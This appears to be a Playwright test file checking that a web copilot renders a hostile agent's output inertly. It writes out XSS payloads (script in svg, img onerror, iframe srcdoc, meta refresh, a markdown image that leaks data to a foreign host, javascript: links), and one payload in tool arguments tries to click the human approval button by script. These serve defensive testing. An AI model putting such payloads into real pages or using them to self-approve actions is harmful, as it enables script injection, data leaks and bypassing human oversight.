"""What an agent writes can never act on the page: markup shows as text, links and images are tamed, size is bounded.

The agent here is hostile (tests/hostile_agent.py): it puts each vector in a reply, in a tool call's
arguments and result, in its reasoning and in an error. For each, no script runs (a `window` flag
stays unset), the URL and the document's base stay as they were, the message box stays clickable,
no request reaches a foreign host, and the vector is visible as text.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.hostile_agent import HostileAgent

from ._crafted import CraftedEvents
from ._person import ask, card, copilot, dialog, hydrated, idle


class ForeignHost:
    """A web server on another origin that records every request it gets (images, frames, forms, navigations)."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Recorder(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
        self.origin = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


@pytest.fixture(scope="module")
def foreign() -> Iterator[ForeignHost]:
    host = ForeignHost()
    yield host
    host.close()


def vectors(origin: str) -> dict[str, str]:
    """Each way an attacker's text has tried to act on the page (see the issue "The person stays in control")."""
    return {
        "svg script": "<svg><script>window.__pwned='svg'</script></svg>",
        "iframe srcdoc": "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={origin}/refresh">',
        "style": "<style>body{display:none !important}</style>",
        "overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>',
        "form": f'<form action="{origin}/form" method="post"><button>go</button></form>',
        "base": f'<base href="{origin}/base/">',
        "object": f'<object data="{origin}/object"></object><embed src="{origin}/embed">',
        "img onerror": "<img src=x onerror=\"window.__pwned='img'\">",
        "markdown image": f"![pixel]({origin}/leak.png?data=secret)",
        "javascript link": "[click me](javascript:window.__pwned='link')",
        "data link": "[open](data:text/html,<script>alert(1)</script>)",
    }


CHECK_PAGE = """() => ({
  pwned: window.__pwned ?? null,
  url: location.href,
  base: document.baseURI,
  bodyShown: getComputedStyle(document.body).display !== 'none',
  boxOnTop: (() => {
    const box = document.querySelector('textarea[aria-label="Ask the copilot"]');
    const r = box.getBoundingClientRect();
    return document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2) === box;
  })(),
  links: [...document.querySelectorAll('[role="log"] a')].map(a => [a.getAttribute('href'), a.target, a.rel]),
  images: [...document.querySelectorAll('[role="log"] img')].map(img => img.getAttribute('src')),
})"""


# An image the page asks for once the agent's markup is shown, then two frames drawn: any image, frame or refresh
# the markup asked for was asked for before it, and any handler it set off has run (the page's policy blocks the
# markup's own kinds of probe, so the probe is the page's own script).
SETTLED = """async () => {
  const image = new Image();
  await new Promise((loaded, failed) => {
    image.onload = loaded;
    image.onerror = failed;
    image.src = `/favicon.ico?settled=${performance.now()}`;
  });
  await new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn)));
}"""


def settled(page: Page) -> None:
    """Wait until what the agent's markup could have set off has had its chance (an image asked for after it came)."""
    page.evaluate(SETTLED)


def assert_inert(page: Page, foreign: ForeignHost, start_url: str) -> None:
    settled(page)
    seen = page.evaluate(CHECK_PAGE)
    assert seen["pwned"] is None, f"a script ran: {seen['pwned']}"
    assert seen["url"] == start_url and seen["base"] == start_url
    assert seen["bodyShown"], "a style blanked the page"
    assert seen["boxOnTop"], "something covers the message box"
    assert foreign.requests == [], f"requests reached a foreign host: {foreign.requests}"
    assert all(src.startswith(start_url) for src in seen["images"]), seen["images"]
    for href, target, rel in seen["links"]:
        assert href.startswith(("http://", "https://", "mailto:")), href
        assert target == "_blank" and "noopener" in rel and "noreferrer" in rel


@pytest.mark.parametrize(
    ("where", "command"),
    [
        ("a reply", "!reply {text}"),
        ("reasoning", "!reasoning {text}"),
        ("an error", "!error {text}"),
    ],
)
def test_markup_from_the_agent_shows_as_text_and_acts_on_nothing(hostile_page: Page, foreign: ForeignHost, where, command):
    hostile_page.goto("/")
    start = hostile_page.url
    text = "\n\n".join(vectors(foreign.origin).values())
    ask(hostile_page, command.format(text=text))
    idle(hostile_page)
    if where == "reasoning":
        copilot(hostile_page).locator("summary").first.click()  # the reasoning opens

    assert_inert(hostile_page, foreign, start)
    agent_side = copilot(hostile_page).locator('[data-kind]:not([data-kind="user"])')
    shown = "\n".join(agent_side.all_inner_texts())
    for visible in ("<svg><script>", "<iframe srcdoc=", '<meta http-equiv="refresh"', "<style>", "<form action="):
        assert visible in shown, f"{visible!r} is not shown as text in {where}"
    if where != "an error":  # Markdown: a link with another scheme keeps its text and leads nowhere
        assert "click me" in shown and "javascript:" not in shown


def test_markup_in_a_tool_calls_arguments_and_result_shows_as_text(hostile_page: Page, foreign: ForeignHost):
    hostile_page.goto("/")
    start = hostile_page.url
    text = " ".join(vectors(foreign.origin).values())
    ask(hostile_page, "!backend lookup " + json.dumps({"q": text}) + " " + text)
    lookup = card(hostile_page, "lookup")
    expect(lookup).to_have_attribute("data-status", "complete", timeout=20_000)
    idle(hostile_page)

    assert_inert(hostile_page, foreign, start)
    expect(lookup.get_by_label("Result")).to_contain_text("<svg><script>window.__pwned='svg'</script></svg>")
    expect(lookup.get_by_label("Arguments")).to_contain_text("<svg><script>")


def test_a_markdown_image_from_another_host_is_a_link_and_is_never_fetched(hostile_page: Page, foreign: ForeignHost):
    hostile_page.goto("/")
    ask(hostile_page, f"!reply See ![the chart]({foreign.origin}/chart.png?user=ada) and [docs](https://example.com/docs).")
    idle(hostile_page)
    reply = hostile_page.locator('[data-kind="assistant"]')
    expect(reply.get_by_role("link", name="the chart")).to_have_attribute("href", f"{foreign.origin}/chart.png?user=ada")
    expect(reply.get_by_role("link", name="docs")).to_have_attribute("target", "_blank")
    expect(reply.locator("img")).to_have_count(0)
    settled(hostile_page)
    assert foreign.requests == []


CLICKS = """window.__clicks = [];
document.addEventListener('click', e => window.__clicks.push(e.target.textContent), true);"""  # every click, a script's too


def test_a_script_in_the_arguments_cannot_approve_the_call(hostile_page: Page, hostile: HostileAgent):
    clicker = (
        "<img src=x onerror=\"document.querySelectorAll('button').forEach(b => b.textContent.includes('Approve') && b.click())\">"
    )
    hostile_page.add_init_script(CLICKS)
    hostile_page.goto("/")
    ask(hostile_page, "!tool slow_approval " + json.dumps({"note": "clicker " + clicker}))
    expect(dialog(hostile_page)).to_be_visible(timeout=20_000)
    expect(dialog(hostile_page)).to_contain_text("<img src=x onerror=")
    settled(hostile_page)  # the clicker's handler, had it been markup, has run: it clicks at once
    assert hostile_page.evaluate("window.__clicks") == [], "something clicked a button"
    expect(card(hostile_page, "slow_approval")).to_have_attribute("data-status", "awaiting_approval")
    assert not any(run.run_input and run.run_input.messages[-1].role == "tool" for run in hostile.requests[-1:])


CLICK_PACE_MS = 150  # a person's pace: clicks spread over the time the text arrives, not the timing of a check


def test_a_one_megabyte_line_never_blocks_the_page(hostile_page: Page):
    hostile_page.add_init_script(
        """window.__latency = [];
        document.addEventListener('pointerdown', e => window.__latency.push(performance.now() - e.timeStamp), true);"""
    )
    hostile_page.goto("/")
    box = hostile_page.get_by_role("textbox", name="Ask the copilot")
    ask(hostile_page, "!big 1000000")
    for _ in range(8):  # clicks while it arrives
        box.click()
        hostile_page.wait_for_timeout(CLICK_PACE_MS)
    idle(hostile_page, timeout=60_000)
    reply = hostile_page.locator('[data-kind="assistant"]')
    expect(reply.get_by_role("button", name="Show all")).to_be_visible()
    assert (
        hostile_page.evaluate("window.__cuiText(document.querySelector('[data-kind=assistant] [data-tid]').dataset.tid).length")
        == 1_000_000
    )

    hostile_page.reload()
    expect(hostile_page.locator('[data-kind="assistant"]').get_by_role("button", name="Show all")).to_be_visible(timeout=20_000)
    box = hostile_page.get_by_role("textbox", name="Ask the copilot")
    for _ in range(4):  # and after a reload, which hands the whole text over again
        box.click()
        hostile_page.wait_for_timeout(CLICK_PACE_MS)
    latencies = hostile_page.evaluate("window.__latency")
    assert len(latencies) >= 4 and max(latencies) < 200, f"clicks waited {max(latencies):.0f} ms: {latencies}"
    expect(box).to_be_focused()


def test_a_message_naming_an_unknown_agent_is_refused_and_the_copilot_stays_usable(hostile_page: Page):
    crafted = CraftedEvents(hostile_page)
    hostile_page.goto("/")
    hydrated(hostile_page)  # connected: the crafted event goes on the tab's connection
    crafted.send("send", {"form": {"message": "!reply hello", "agent": "admin"}})
    expect(copilot(hostile_page).locator('[data-kind="error"]')).to_contain_text("There is no agent 'admin' here", timeout=10_000)
    expect(hostile_page.get_by_role("button", name="Send")).to_be_visible()

    ask(hostile_page, "!reply still here")
    expect(hostile_page.locator('[data-kind="assistant"]')).to_have_text("still here", timeout=20_000)


def test_a_silent_agent_shows_how_long_the_copilot_has_been_waiting(hostile_page: Page):
    hostile_page.goto("/")
    ask(hostile_page, "!hang 6")
    status = hostile_page.get_by_role("status")
    expect(status).to_contain_text("Waiting for the agent… 2 s", timeout=10_000)
    expect(status).to_contain_text("Waiting for the agent… 4 s", timeout=10_000)
    expect(hostile_page.get_by_role("button", name="Stop")).to_be_visible()
    hostile_page.get_by_role("button", name="Stop").click()
    expect(hostile_page.locator('[data-kind="notice"]')).to_have_text("Stopped.")
